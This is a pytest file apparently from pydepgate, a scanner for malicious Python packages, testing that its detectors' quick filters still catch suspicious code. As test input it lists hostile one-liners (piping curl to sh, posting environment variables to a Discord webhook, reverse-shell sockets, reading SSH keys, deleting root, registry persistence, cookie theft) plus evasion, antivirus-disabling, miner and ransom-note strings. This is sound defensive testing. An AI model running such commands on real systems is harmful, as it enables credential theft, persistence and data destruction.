"""What is not looked at because it cannot matter does not matter: each quick test against what it stands for."""

from __future__ import annotations

import re
from dataclasses import replace
from pathlib import Path

import pytest

from pydepgate.detect import DETECTORS, mentions
from pydepgate.detect.base import View
from pydepgate.detect.walk import walk
from pydepgate.source.interpreter import evaluate
from pydepgate.source.read import read_source
from pydepgate.source.secrets import ANCHORS, TOKEN_MARKS, TOKEN_SHAPE, might_hold

_SOURCES = sorted((Path(__file__).parents[2] / "src" / "pydepgate" / "detect").glob("*.py"))
_CALLS = """
import os, sys, time, base64, pickle, marshal, socket, subprocess, shutil, requests, ctypes, winreg, glob, mmap
import urllib.request, threading, pyperclip, psutil, pathlib, zipimport, getpass, discord, pty, webbrowser, runpy
exec(base64.b64decode(data)); eval(sys.argv[1]); pickle.loads(data); marshal.loads(data); __import__(data)
os.system('curl http://h/x | sh'); subprocess.Popen(['whoami'], stdout=subprocess.PIPE); pty.spawn('/bin/sh')
requests.post('https://discord.com/api/webhooks/1/x', json=dict(os.environ)); socket.socket().connect(('1.2.3.4', 4444))
client.session.post('http://h/'); urllib.request.urlretrieve('http://h/a.exe', 'a.exe'); os.startfile('a.exe')
webbrowser.open('http://h/'); threading.Thread(target=lambda: requests.get('http://h/')).start(); os.dup2(s.fileno(), 0)
open('/etc/cron.d/x', 'w').write('x'); shutil.copy(__file__, '/etc/x'); pathlib.Path('~/.bashrc').write_text('x')
open(os.path.expanduser('~/.ssh/id_rsa')).read(); os.walk('/'); glob.glob('~/*'); getpass.getpass(); os.chmod('a', 7)
pyperclip.copy(pyperclip.paste()); root.clipboard_append('x'); requests.post(u, data=PIL.ImageGrab.grab())
winreg.SetValueEx(winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Run'), 'x', 0, 1, 'a.exe'); shell.CreateShortCut('x.lnk')
ctypes.windll.kernel32.IsDebuggerPresent(); ctypes.windll.user32.ShowWindow(w, 0); time.sleep(600); sys.gettrace()
os.remove(__file__); psutil.process_iter(); psutil.Process(1).kill(); ctypes.windll.user32.BlockInput(True)
shutil.rmtree('/'); cipher.encrypt(open('f').read()); ctypes.windll.ntdll.NtRaiseHardError(); mmap.mmap(-1, 1, prot=7)
ctypes.windll.kernel32.VirtualAlloc(0, 1); ctypes.CDLL('./' + name); os.memfd_create('x'); __import__('os').system('ls')
sys.path.insert(0, '/tmp'); zipimport.zipimporter('x.zip'); runpy.run_path('a.py'); self.spawn(['ls'])
ctypes.windll.kernel32.SetFileAttributesW('x', 2); ctypes.windll.user32.SystemParametersInfoW(20, 0, 'x')
win32crypt.CryptUnprotectData(x); browser_cookie3.chrome(); open(r'\\\\.\\PhysicalDrive0', 'wb'); x.sendall(os.environ)
"""


@pytest.mark.parametrize("source", [_CALLS, *(path.read_text("utf-8") for path in _SOURCES)])
def test_a_detector_sees_nothing_in_calls_that_it_says_are_no_concern(source: str) -> None:
    read = read_source(source.encode())
    assert read.tree is not None
    view = View(tuple(read.text.split("\n")), evaluate(read.tree, read.text))
    all_asked = [replace(detector, concerns=None) for detector in DETECTORS]
    assert list(walk(read.tree, view, DETECTORS)) == list(walk(read.tree, view, all_asked))


@pytest.mark.parametrize(
    "text",
    [
        *re.sub(r"\(\?:(\w+)\)\??", r"\1", mentions._TOOLS.pattern.partition("(?:")[2].rpartition(")(?!")[0])
        .replace("?", "")
        .replace("\n", "")
        .replace(" ", "")
        .split("|"),
        *r"""C:\Start\Menu\Programs\Startup|CurrentVersion\\Run|~/Library/LaunchAgents|LaunchDaemons|discord_desktop_core
        |/app.asar|--load-extension=x|drivers/vmmouse.sys|VBoxGuest.sys|SbieDll.dll|vboxhook.dll|vmcheck.dll
        |HARDWARE\ACPI|SOFTWARE\VMware|Disk\Enum|/sys/class/dmi/id/x|/proc/scsi/scsi|AmsiScanBuffer|amsi.dll
        |EtwEventWrite|ms-settings\shell\open\command|mscfile\shell\open|fodhelper|computerdefaults.exe|DelegateExecute
        |Set-MpPreference|DisableRealtimeMonitoring|DisableAntiSpyware|ExclusionPath|TamperProtection
        |stratum+tcp://h|--donate-level|CryptoNight|nanopool""".split("|"),
        "Your personal files have been encrypted",
        "to recover your files",
        "pay 1 BTC to decrypt",
        "K\u017fdumper",
    ],
)
def test_a_text_that_mentions_something_passes_the_quick_test(text: str) -> None:
    assert mentions.might_mention(text.strip())


@pytest.mark.parametrize("anchor", ANCHORS)
def test_every_anchor_of_a_secret_place_is_found_in_a_source(anchor: str) -> None:
    assert might_hold(f"first = 1\npath = 'a{anchor.upper()}b'\n")
    assert might_hold(anchor.replace("/", "\\\\"))


@pytest.mark.parametrize(
    "text", [r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", r"mfa\.[\w-]{84}", "dQw4w9WgXcQ:", ".ROBLOSECURITY", "[5KL][1-9A-HJ-NP"]
)
def test_every_shape_of_a_token_has_a_mark(text: str) -> None:
    assert TOKEN_SHAPE.search(text)
    assert any(mark in text for mark in TOKEN_MARKS)
